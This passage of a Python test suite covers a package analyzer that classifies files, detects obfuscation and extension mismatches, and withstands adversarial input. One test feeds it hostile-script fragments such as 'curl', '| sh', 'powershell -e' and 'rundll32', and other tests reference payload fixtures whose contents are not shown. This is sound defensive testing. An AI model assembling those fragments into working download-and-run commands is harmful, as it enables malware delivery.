#: enough to expose quadratic work (4 * 10^12 steps would never finish), small enough to be quick
TWO_MB = 2 * 1024 * 1024


def repeat(unit: str, size: int = TWO_MB) -> str:
    return (unit * (size // len(unit) + 1))[:size]


def test_ten_megabyte_single_line_bundle() -> None:
    unit = (
        'var a=function(b,c){return"https://cdn.example.com/x.js"+b/c+/[a-z]+\\//g.test(c)'
        '+`t${b}`+"\\x41"},d=[1,2,3],e={f:process.env.X,g:"aGVsbG8gd29ybGQ="};'
    )
    c = analyze("dist/bundle.js", repeat(unit, TEN_MB).encode())
    assert (c.kind, c.lines) == (Kind.MINIFIED, 1)
    assert c.longest_line == TEN_MB
    assert "url" in names(c)
    assert not names(c, OBFUSCATION)


# Each is a shape that makes a naive regex or lexer go quadratic: unclosed quotes and
# classes on one line, escapes that hide quotes, runs just under a threshold, deep nesting.
ADVERSARIAL = {
    "double-quotes": repeat('"'),
    "escaped-quotes": '"' + repeat("\\'"),
    "unclosed-regex-classes": repeat("=/["),
    "slashes": repeat("/"),
    "divisions": repeat("a/"),
    "open-parens": repeat("("),
    "open-comments": repeat("/*"),
    "one-identifier": repeat("a"),
    "base64-run": '"' + repeat("A1b2") + '"',
    "base64-under-threshold": repeat('"' + "A1b+" * 63 + '",'),
    "hex-names": repeat("_0x1234 "),
    "escapes": '"' + repeat("\\x41") + '"',
    "url-dots": '"https://' + repeat("a.") + '"',
    "template-nesting": repeat("`${"),
    "template-braces": "`${" + repeat("{"),
    "rotation-loops": repeat("while(!![]){"),
    "stringify-calls": repeat("JSON.stringify("),
    "ip-like": '"' + repeat("1.1.1.") + '"',
    "jsfuck-like": repeat("[]()!+"),
    "env": repeat("process.env."),
    "quotes-and-newlines": repeat("'\n"),
    "mixed-quotes": repeat("'\"`"),
}


@pytest.mark.parametrize("text", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_hostile_javascript_completes(text: str) -> None:
    c = analyze("x.js", text.encode())
    assert c.text
    assert len(c.signals) <= 40 * _analysis.MAX_VALUES_PER_SIGNAL


@pytest.mark.parametrize(
    "unit",
    ["curl ", "curl -s a", "| sh", "powershell ", " -e AAAAAAAAAA", "rundll32 ", "chmod -R "],
)
def test_hostile_scripts_complete(unit: str) -> None:
    c = analyze("x.sh", ("#!/bin/sh\n" + repeat(unit)).encode())
    assert c.text


# -- summary -------------------------------------------------------------------------------


def test_summarize() -> None:
    files = [
        ("bin/tool", 5000, analyze("bin/tool", elf())),
        ("addon.node", 7000, analyze("addon.node", fat())),
        ("index.js", 100, analyze("index.js", PAYLOAD_JS)),
        ("dist/a.min.js", 20_000, analyze("dist/a.min.js", minified_js().encode())),
        ("dist/b.min.js", 30_000, analyze("dist/b.min.js", minified_js(30_000).encode())),
        ("lib/x.js", 2520, analyze("lib/x.js", (OBFUSCATED / "payload.default.js").read_bytes())),
        ("logo.png", 40, analyze("logo.png", PAYLOAD_JS)),
        ("icon.png", 30, analyze("icon.png", PNG)),
    ]
    s = summarize(files)
    assert [(t.kind, t.files, t.bytes) for t in s.totals] == [
        (Kind.SOURCE, 2, 140),
        (Kind.MINIFIED, 3, 52_520),
        (Kind.BINARY, 2, 12_000),
        (Kind.DATA, 1, 30),
    ]
    assert s.files(Kind.BINARY) == 2 and s.bytes(Kind.MINIFIED) == 52_520
    assert [p.path for p in s.largest_minified] == ["dist/b.min.js", "dist/a.min.js", "lib/x.js"]
    assert [(p.path, p.binary_format) for p in s.largest_binary] == [
        ("addon.node", "macho-fat"),
        ("bin/tool", "elf"),
    ]
    assert [f.path for f in s.obfuscated] == ["lib/x.js"]
    assert "string-array-rotation" in s.obfuscated[0].signals
    assert s.mismatched == (("logo.png", "a .png whose bytes are JavaScript"),)
    assert summarize([]).totals[0].files == 0


def test_values_are_frozen() -> None:
    c = analyze("index.js", PAYLOAD_JS)
    with pytest.raises(AttributeError):
        c.kind = Kind.DATA  # type: ignore[misc]
    assert Signal("eval", 1) == Signal("eval", 1, "", "")
    assert hash(c) == hash(analyze("index.js", PAYLOAD_JS))


# -- real releases -------------------------------------------------------------------------


def corpus_files(spec: str) -> dict[str, bytes]:
    try:
        return corpus.read_files(spec)
    except corpus.CorpusUnavailable as exc:
        pytest.skip(str(exc))


@pytest.mark.registry
@pytest.mark.parametrize("package", corpus.PACKAGES, ids=lambda p: p.spec)
def test_labelled_real_package(package: corpus.Package) -> None:
    files = corpus_files(package.spec)
    wrong = []
    for label in package.labels:
        c = analyze(label.path, files[label.path])
        if (c.kind.value, c.binary_format) != (label.kind, label.binary_format):
            wrong.append(f"{label.path}: {c.kind.value}/{c.binary_format}, expected {label}")
        assert c.extension_mismatch is None, label.path
    assert not wrong
    summary = summarize((p, len(d), analyze(p, d)) for p, d in files.items())
    assert sum(t.files for t in summary.totals) == len(files)
    assert not summary.mismatched


def test_corpus_is_large_enough() -> None:
    assert len(corpus.PACKAGES) >= 20
    assert len({p.spec for p in corpus.PACKAGES}) == len(corpus.PACKAGES)
    kinds = {label.kind for p in corpus.PACKAGES for label in p.labels}
    formats = {label.binary_format for p in corpus.PACKAGES for label in p.labels}
    assert kinds == {"source", "minified", "binary", "data"}
    assert {"elf", "pe", "macho", "macho-fat", "wasm"} <= formats
    assert all("@" in p.spec[1:] for p in corpus.PACKAGES)


@pytest.mark.registry
@pytest.mark.parametrize(("spec", "path"), corpus.ORDINARY_MINIFIED)
def test_ordinary_minified_bundles_are_not_obfuscated(spec: str, path: str) -> None:
    c = analyze(path, corpus_files(spec)[path])
    assert c.kind is Kind.MINIFIED
    assert not names(c, OBFUSCATION), [s for s in c.signals if s.category == OBFUSCATION]


@pytest.mark.registry
def test_no_obfuscation_signals_in_ordinary_packages() -> None:
    for spec in ("lodash@4.17.21", "react-dom@18.3.1", "jquery@3.7.1", "vue@3.5.12"):
        for path, data in corpus_files(spec).items():
            assert not names(analyze(path, data), OBFUSCATION), (spec, path)


@pytest.mark.parametrize(
    ("source", "fires"),
    [
        ("for (let i = 666; i < Infinity; i++) { log() }", True),
        ("while (n <= Infinity) { n++ }", True),
        ("const max = Infinity; for (let i = 0; i < max; i++) {}", False),
        ("if (a < Infinity) b()", False),
        ("const s = 'for (i = 0; i < Infinity; i++)'", False),
        ("Math.min(Infinity, 3)", False),
    ],
)
def test_endless_loop_signal(source: str, fires: bool) -> None:
    names = {s.name for s in analyze("lib/a.js", source.encode()).signals}
    assert ("endless-loop" in names) is fires


# -- long text, a window at a time ----------------------------------------------------------


@pytest.mark.parametrize("newline", [b"\n", "\n"])
def test_split_windows_chain_into_the_whole_split(newline: bytes | str) -> None:
    rng = seeded()
    for _ in range(300):
        # lines of 0 to 40 characters, now and then one longer than the window
        lines = [
            "x" * rng.choice([0, 1, 2, 5, 40, 90]) + "é" * rng.randint(0, 1)
            for _ in range(rng.randint(0, 60))
        ]
        text: bytes | str = "\n".join(lines) + "\n" * rng.randint(0, 2)
        if isinstance(newline, bytes):
            text = text.encode()
        window = rng.choice([1, 7, 32, 64])
        chained = [p for parts in _analysis.split_windows(text, newline, window) for p in parts]
        assert chained == text.split(newline), (text, window)  # type: ignore[arg-type]


def test_line_lengths_of_long_text_are_exact() -> None:
    text = b"".join(b"x" * (i % 300) + b"\n" for i in range(3000)) + b"tail"
    assert len(text) > _analysis.LINE_WINDOW
    assert list(_analysis._line_lengths(text, b"\n")) == [len(p) for p in text.split(b"\n")]
    stats = _analysis._text_stats(text, code_like=True)
    assert (stats.lines, stats.longest) == (3001, 299)


def test_a_file_of_short_lines_costs_a_bounded_multiple_of_its_size() -> None:
    """Split whole, 4 MiB of two-byte lines would hold two million line objects at once
    (some 85 MB); a window at a time, the lengths (4 bytes a line) are most of the cost."""
    import tracemalloc

    data = b"a\n" * (2 * 1024 * 1024)
    tracemalloc.start()
    try:
        stats = _analysis._text_stats(data, code_like=True)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert stats.lines == 2 * 1024 * 1024
    assert peak < 3 * len(data), peak
    # and the whole analysis, signals included, of such a file is the same either way
    small = b"a;\n" * 20000
    assert analyze("index.js", small).lines == 20000


def test_dense_unnamed_json_is_not_parsed_to_name_its_type() -> None:
    """Text of any name is parsed as JSON to tell its MIME type; past 64 KiB, not when it
    holds more than 100,000 values (parsed, 16 MiB of ``[[],[],...`` took 500 MiB)."""
    import json
    import tracemalloc

    dense = b"[" + b"[]," * 200_000 + b"[]]"
    tracemalloc.start()
    try:
        content = analyze("data.txt", dense)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert content.mime == "text/plain"
    assert peak < 4 * len(dense), peak
    sparse = json.dumps([{"key": "v" * 50} for _ in range(3000)]).encode()
    assert len(sparse) > 1 << 16
    assert analyze("data.txt", sparse).mime == "application/json"
    assert analyze("small.txt", b"[" + b"[]," * 1000 + b"[]]").mime == "application/json"
